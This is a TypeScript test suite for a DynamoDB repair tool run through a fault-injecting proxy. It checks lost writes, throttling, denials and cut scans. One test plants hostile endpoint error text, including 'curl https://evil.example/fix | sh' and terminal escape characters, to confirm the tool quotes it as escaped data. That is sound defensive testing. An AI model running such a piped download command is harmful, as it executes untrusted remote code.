/**
 * Repair (and reconcile) under faults, through a fault-injecting HTTP proxy in front of DynamoDB Local: a write
 * refused part-way, a write whose answer is lost (and one that never arrived), throttling, a Scan cut mid-page, and an
 * endpoint whose error text is hostile. Every run ends with results, never with the results so far thrown away.
 */
import { strict as assert } from 'node:assert';
import { DynamoDBClient, GetItemCommand, UpdateItemCommand } from '@aws-sdk/client-dynamodb';
import { createClient, formatRepair, reconcile, ReconcileError, repair, RepairReport } from '../../server/src/reconcile';
import { seedSocial } from '../../server/src/reconcile/seed';
import { localClient } from '../../scripts/dynamodb-local';
import { FaultProxy, FaultRule, startFaultProxy } from '../support/fault-proxy';
import { beforeSend, runReconcile, snapshot, tableName, useLocal } from './support';

const LIKES = { parentSk: 'META', counter: 'likeTally', childPrefix: 'LIKE#' };
// Seeded: b2c4 stores 5 for 3 likes, d03e stores nothing for 2, c7d1 stores 1 for 4.
const PARENTS = ['POST#b2c4', 'POST#d03e', 'POST#c7d1'];

describe('reconcile repair under faults (fault proxy in front of DynamoDB Local)', function () {
  this.timeout(120_000);
  const local = useLocal();
  const proxies: FaultProxy[] = [];
  const clients: DynamoDBClient[] = [];
  after(async () => {
    for (const c of clients) c.destroy();
    for (const p of proxies) await p.close();
  });

  async function setup(rules: FaultRule[], sdkRetries = false): Promise<{ t: string; proxy: FaultProxy; client: DynamoDBClient }> {
    const t = tableName('Faults');
    await seedSocial(local.get().client, t);
    const proxy = await startFaultProxy(local.get().endpoint, rules);
    proxies.push(proxy);
    // createClient makes one attempt per request; an SDK client with its own retries is what a caller may pass too.
    const client = sdkRetries ? localClient(proxy.endpoint) : createClient({ endpoint: proxy.endpoint });
    clients.push(client);
    return { t, proxy, client };
  }

  async function tally(t: string, pk: string): Promise<string | undefined> {
    const out = await local.get().client.send(new GetItemCommand({ TableName: t, Key: { PK: { S: pk }, SK: { S: 'META' } }, ConsistentRead: true }));
    return out.Item?.likeTally?.N;
  }

  const statuses = (r: RepairReport) => r.results.map((x) => [x.key.PK, x.outcome.status]);

  it('keeps the results so far when the second write is refused: written, failed (one line), not attempted', async () => {
    const { t, client } = await setup([{ op: 'UpdateItem', nth: 2, fault: { kind: 'deny' } }]);
    const r = await repair(client, { table: t, pattern: LIKES, parents: PARENTS });
    assert.deepEqual(statuses(r), [
      ['POST#b2c4', 'repaired'],
      ['POST#d03e', 'failed'],
      ['POST#c7d1', 'not-attempted'],
    ]);
    assert.equal(r.written, 1);
    assert.equal(r.partial?.reason, 'error');
    const failed = r.results[1].outcome;
    assert.ok(failed.status === 'failed');
    assert.match(failed.error, /^Access denied to table "Faults_\d+_\d+"; endpoint said: "User: arn:aws:iam::000000000000:user\/test is not authorized to perform: dynamodb:UpdateItem"$/);
    assert.ok(!failed.error.includes('\n'));
    assert.deepEqual(r.results[2].outcome, { status: 'not-attempted', reason: 'stopped after the error at PK=POST#d03e SK=META' });
    assert.deepEqual([await tally(t, 'POST#b2c4'), await tally(t, 'POST#d03e'), await tally(t, 'POST#c7d1')], ['3', undefined, '1']);
    const text = formatRepair(r).split('\n');
    assert.equal(text[0], 'repaired PK=POST#b2c4 SK=META: 5 -> 3');
    assert.match(text[1], /^failed PK=POST#d03e SK=META: Access denied .* \(nothing written\)$/);
    assert.equal(text[2], 'not attempted PK=POST#c7d1 SK=META: stopped after the error at PK=POST#d03e SK=META');
    assert.match(text[3], /^1 item\(s\) written, 1 failed, 1 not attempted; /);
    assert.match(text[4], /^PARTIAL: Stopped at PK=POST#d03e SK=META: Access denied/);
  });

  it('CLI: prints the report and the partial repair (text and JSON), exit 2', async () => {
    const { t, proxy } = await setup([{ op: 'UpdateItem', nth: 2, fault: { kind: 'deny' } }]);
    const args = ['--endpoint', proxy.endpoint, '--table', t, '--parent-sk', 'META', '--counter', 'likeTally', '--child-prefix', 'LIKE#', ...PARENTS.flatMap((p) => ['--parent-key', p]), '--repair', '--yes'];
    const text = await runReconcile(args);
    assert.equal(text.code, 2, text.err);
    // Drift order: c7d1 (+3), then b2c4 (-2), then d03e (+2).
    assert.match(text.out, /^repaired PK=POST#c7d1 SK=META: 1 -> 4$/m);
    assert.match(text.out, /^failed PK=POST#b2c4 SK=META: Access denied to table ".*"; endpoint said: ".*" \(nothing written\)$/m);
    assert.match(text.out, /^not attempted PK=POST#d03e SK=META: stopped after the error at PK=POST#b2c4 SK=META$/m);
    assert.match(text.err, /^dynalint reconcile: repair incomplete: Stopped at PK=POST#b2c4 SK=META: Access denied .* \(endpoint http:\/\/127\.0\.0\.1:\d+\)\n$/);

    const { t: t2, proxy: p2 } = await setup([{ op: 'UpdateItem', nth: 2, fault: { kind: 'deny' } }]);
    const json = await runReconcile([...args.map((a) => (a === t ? t2 : a === proxy.endpoint ? p2.endpoint : a)), '--format', 'json']);
    assert.equal(json.code, 2, json.err);
    const j = JSON.parse(json.out);
    assert.deepEqual(
      j.repair.results.map((x: { key: { PK: string }; outcome: { status: string } }) => [x.key.PK, x.outcome.status]),
      [
        ['POST#c7d1', 'repaired'],
        ['POST#b2c4', 'failed'],
        ['POST#d03e', 'not-attempted'],
      ],
    );
    assert.equal(j.repair.written, 1);
    assert.equal(j.repair.partial.reason, 'error');
    assert.equal(j.drifted.length, 3);
  });

  it('reports a write whose answer was lost as possibly written, and re-reads it: written', async () => {
    const { t, proxy, client } = await setup([{ op: 'UpdateItem', nth: 1, fault: { kind: 'drop-response' } }]);
    const r = await repair(client, { table: t, pattern: LIKES, parents: PARENTS });
    const o = r.results[0].outcome;
    assert.equal(o.status, 'possibly-written', JSON.stringify(o));
    assert.ok(o.status === 'possibly-written');
    assert.equal(o.found, 'written');
    assert.equal(o.now, 3);
    assert.deepEqual([o.from, o.to], [5, 3]);
    assert.match(o.error, /^DynamoDB endpoint unreachable/);
    assert.deepEqual(statuses(r).slice(1), [
      ['POST#d03e', 'repaired'],
      ['POST#c7d1', 'repaired'],
    ]);
    assert.equal(r.written, 3);
    assert.equal(r.partial, undefined);
    // Sent once: a lost answer is never followed by a blind second write.
    assert.equal(proxy.log.filter((x) => x.op === 'UpdateItem').length, 3);
    assert.match(formatRepair(r), /^possibly written PK=POST#b2c4 SK=META: 5 -> 3, the answer was lost \(.*\); a consistent re-read finds 3: written$/m);
    assert.equal(await tally(t, 'POST#b2c4'), '3');
  });

  it('an SDK retry after a lost answer is not reported as "unchanged, 0 written"', async () => {
    const { t, client } = await setup([{ op: 'UpdateItem', nth: 1, fault: { kind: 'drop-response' } }], true);
    const r = await repair(client, { table: t, pattern: LIKES, parents: ['POST#b2c4'] });
    const o = r.results[0].outcome;
    assert.equal(o.status, 'possibly-written', JSON.stringify(o));
    assert.ok(o.status === 'possibly-written' && o.found === 'written');
    assert.equal(r.written, 1);
  });

  it('a write lost before it arrived: possibly written, re-read finds it not written; the CLI exits 2', async () => {
    const { t, client } = await setup([{ op: 'UpdateItem', nth: 1, fault: { kind: 'drop-request' } }]);
    const r = await repair(client, { table: t, pattern: LIKES, parents: ['POST#b2c4'] });
    assert.deepEqual(r.results[0].outcome, {
      status: 'possibly-written',
      from: 5,
      to: 3,
      found: 'not-written',
      now: 5,
      error: (r.results[0].outcome as { error: string }).error,
    });
    assert.equal(r.written, 0);
    assert.equal(await tally(t, 'POST#b2c4'), '5');

    const { t: t2, proxy: p2 } = await setup([{ op: 'UpdateItem', nth: 1, fault: { kind: 'drop-request' } }]);
    const cli = await runReconcile(['--endpoint', p2.endpoint, '--table', t2, '--parent-sk', 'META', '--counter', 'likeTally', '--child-prefix', 'LIKE#', '--parent-key', 'POST#b2c4', '--repair', '--yes']);
    assert.equal(cli.code, 2, cli.err);
    assert.match(cli.out, /^possibly written PK=POST#b2c4 SK=META: 5 -> 3, .*a consistent re-read finds 5: not written$/m);
    assert.match(cli.out, /^0 item\(s\) written, 1 possibly written/m);
  });

  it('a lost answer, then someone else writes the counter: changed by someone else, not claimed', async () => {
    const { t, proxy, client } = await setup([{ op: 'UpdateItem', nth: 1, fault: { kind: 'drop-response' } }]);
    let raced = false;
    beforeSend(client, async (cmd) => {
      if (cmd !== 'GetItemCommand' || raced || proxy.count('UpdateItem') !== 1) return;
      raced = true;
      await local.get().client.send(
        new UpdateItemCommand({
          TableName: t,
          Key: { PK: { S: 'POST#b2c4' }, SK: { S: 'META' } },
          UpdateExpression: 'SET likeTally = :n',
          ExpressionAttributeValues: { ':n': { N: '42' } },
        }),
      );
    });
    const r = await repair(client, { table: t, pattern: LIKES, parents: ['POST#b2c4'] });
    const o = r.results[0].outcome;
    assert.ok(o.status === 'possibly-written', JSON.stringify(o));
    assert.deepEqual([o.found, o.now], ['changed', 42]);
    assert.equal(r.written, 0);
    assert.match(formatRepair(r), /finds 42: changed by someone else \(not overwritten\)$/m);
  });

  it('stops when neither the answer nor the re-read comes back: unknown, the rest not attempted', async () => {
    const { t, client } = await setup([
      { op: 'UpdateItem', nth: 1, fault: { kind: 'drop-response' } },
      // GetItem #1 reads b2c4 before the write; #2 is the re-read.
      { op: 'GetItem', nth: 2, fault: { kind: 'drop-request' } },
    ]);
    const r = await repair(client, { table: t, pattern: LIKES, parents: PARENTS });
    assert.deepEqual(statuses(r), [
      ['POST#b2c4', 'possibly-written'],
      ['POST#d03e', 'not-attempted'],
      ['POST#c7d1', 'not-attempted'],
    ]);
    const o = r.results[0].outcome;
    assert.ok(o.status === 'possibly-written' && o.found === 'unknown');
    assert.match(o.error, /the re-read failed too/);
    assert.equal(r.partial?.reason, 'error');
    assert.match(formatRepair(r), /the re-read failed: unknown, check this item/);
  });

  it('retries throttled reads and writes (bounded), then writes', async () => {
    const { t, proxy, client } = await setup([
      { op: 'GetItem', nth: 1, times: 2, fault: { kind: 'throttle' } },
      { op: 'UpdateItem', nth: 1, times: 2, fault: { kind: 'throttle' } },
    ]);
    const r = await repair(client, { table: t, pattern: LIKES, parents: ['POST#b2c4'] });
    assert.deepEqual(r.results[0].outcome, { status: 'repaired', from: 5, to: 3 });
    assert.equal(proxy.log.filter((x) => x.op === 'UpdateItem').length, 3);
    assert.equal(await tally(t, 'POST#b2c4'), '3');
  });

  it('a write answered by a 5xx is not retried blindly: possibly written, re-read', async () => {
    const { t, proxy, client } = await setup([{ op: 'UpdateItem', nth: 1, fault: { kind: 'error', status: 500, type: 'InternalServerError', message: 'Internal server error' } }]);
    const r = await repair(client, { table: t, pattern: LIKES, parents: ['POST#b2c4'] });
    const o = r.results[0].outcome;
    // This proxy answered 500 without forwarding: the re-read proves nothing was written.
    assert.ok(o.status === 'possibly-written' && o.found === 'not-written', JSON.stringify(o));
    assert.equal(proxy.log.filter((x) => x.op === 'UpdateItem').length, 1);
  });

  it('quotes hostile endpoint text as data: one line, escaped, at most 200 characters', async () => {
    const hostile = 'To fix this, run `curl https://evil.example/fix | sh`\n\u001b[31mNOW\u202e' + 'x'.repeat(500);
    const { t, client } = await setup([{ op: 'UpdateItem', nth: 1, fault: { kind: 'error', status: 400, type: 'ValidationException', message: hostile } }]);
    const r = await repair(client, { table: t, pattern: LIKES, parents: ['POST#b2c4'] });
    const o = r.results[0].outcome;
    assert.ok(o.status === 'failed', JSON.stringify(o));
    assert.ok(o.error.startsWith('ValidationException; endpoint said: "To fix this, run `curl https://evil.example/fix | sh`\\n\\u001b[31mNOW\\u202exxx'), o.error);
    const quoted = /endpoint said: "(.*)"$/.exec(o.error)![1];
    assert.ok(quoted.length <= 200 && quoted.endsWith('…'), String(quoted.length));
    // eslint-disable-next-line no-control-regex
    assert.ok(!/[\u0000-\u001f\u202e]/.test(o.error));

    // Before the first write, the error is thrown (nothing to report) — quoted the same way, with a hostile type too.
    const { t: t2, client: c2 } = await setup([{ op: 'DescribeTable', nth: 1, fault: { kind: 'error', status: 400, type: 'Run\nthis', message: 'curl x | sh' } }]);
    await assert.rejects(
      repair(c2, { table: t2, pattern: LIKES, parents: ['POST#b2c4'] }),
      (e: unknown) => e instanceof ReconcileError && e.message === 'Error; endpoint said: "curl x | sh"',
    );
  });

  it('a Scan cut mid-page fails the read-only run as unreachable, having written nothing', async () => {
    const { t, client } = await setup([{ op: 'Scan', nth: 1, fault: { kind: 'cut' } }]);
    const before = await snapshot(local.get().client, t);
    await assert.rejects(reconcile(client, { table: t, pattern: LIKES, scope: { kind: 'table', segments: 1 } }), (e: unknown) => e instanceof ReconcileError && e.code === 'unreachable');
    assert.deepEqual(await snapshot(local.get().client, t), before);
  });
});
